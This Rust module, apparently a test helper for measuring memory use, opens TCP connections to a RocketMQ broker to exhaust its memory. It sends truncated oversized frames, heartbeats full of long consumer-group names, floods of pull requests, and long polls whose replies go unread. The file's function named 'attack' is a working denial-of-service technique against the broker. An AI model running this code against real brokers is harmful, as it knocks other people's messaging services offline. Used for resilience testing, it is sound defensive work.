//! What connections of the RocketMQ door do to make a server take memory for them.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use serde_json::{Value, json};

/// Long polls of one connection.
const POLLS: i32 = 16;

fn request(code: i32, opaque: i32, fields: &Value, body: &[u8]) -> Vec<u8> {
    let header = json!({"code": code, "extFields": fields, "flag": 0, "opaque": opaque, "version": 409}).to_string();
    let number = |length: usize| u32::try_from(length).unwrap().to_be_bytes();
    [&number(4 + header.len() + body.len()), &number(header.len()), header.as_bytes(), body].concat()
}

fn pull(topic: &str, offset: u64, wait_ms: u32) -> Value {
    json!({"consumerGroup": "g", "topic": topic, "queueId": "0", "queueOffset": offset.to_string(), "maxMsgNums": "32",
        "sysFlag": "6", "commitOffset": "0", "suspendTimeoutMillis": wait_ms.to_string(), "subscription": "none",
        "subVersion": "1", "expressionType": "TAG"})
}

/// Pulls of what nothing passes, many at once, at all offsets below `end`; their answers are read.
pub(crate) fn search(server: SocketAddr, topic: &str, end: u64, number: u64) {
    let mut stream = TcpStream::connect(server).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(120))).unwrap();
    for turn in 0..4 {
        let offsets =
            (0..u64::try_from(POLLS).unwrap()).map(|poll| (number * 7_919 + turn * 104_729 + poll * 12_347) % end);
        let requests: Vec<u8> = (0..POLLS)
            .zip(offsets)
            .flat_map(|(poll, offset)| request(11, poll, &pull(topic, offset, 0), &[]))
            .collect();
        stream.write_all(&requests).unwrap();
        for _ in 0..POLLS {
            let mut length = [0; 4];
            stream.read_exact(&mut length).unwrap();
            let mut answer = vec![0; usize::try_from(u32::from_be_bytes(length)).unwrap()];
            stream.read_exact(&mut answer).unwrap();
        }
    }
}

/// Half a message, heartbeats of many large names, or long polls whose answers nobody reads; on a topic that is there.
pub(crate) fn begin(server: SocketAddr, topic: &str, number: usize) -> Option<TcpStream> {
    let mut stream = TcpStream::connect(server).ok()?;
    stream.set_write_timeout(Some(Duration::from_secs(5))).ok()?;
    // What a server does not take any more is as good as sent.
    let _ = attack(&mut stream, topic, number);
    Some(stream)
}

fn attack(stream: &mut TcpStream, topic: &str, number: usize) -> io::Result<()> {
    match number % 3 {
        0 => {
            stream.write_all(&(8_u32 << 20).to_be_bytes())?;
            stream.write_all(&vec![0; 512 << 10])
        }
        1 => {
            let long = "x".repeat(200);
            let consumers: Vec<Value> = (0..20)
                .map(|group| {
                    let subscription =
                        json!({"topic": topic, "subString": long, "expressionType": "TAG", "subVersion": 1});
                    json!({"groupName": format!("{long}{number}-{group}"), "consumeType": "CONSUME_PASSIVELY",
                        "messageModel": "BROADCASTING", "subscriptionDataSet": [subscription]})
                })
                .collect();
            let body =
                json!({"clientID": format!("{long}{number}"), "consumerDataSet": consumers, "producerDataSet": []});
            stream.write_all(&request(34, 1, &json!({}), body.to_string().as_bytes()))
        }
        _ => (0..POLLS).try_for_each(|poll| stream.write_all(&request(11, poll, &pull(topic, 0, 30_000), &[]))),
    }
}
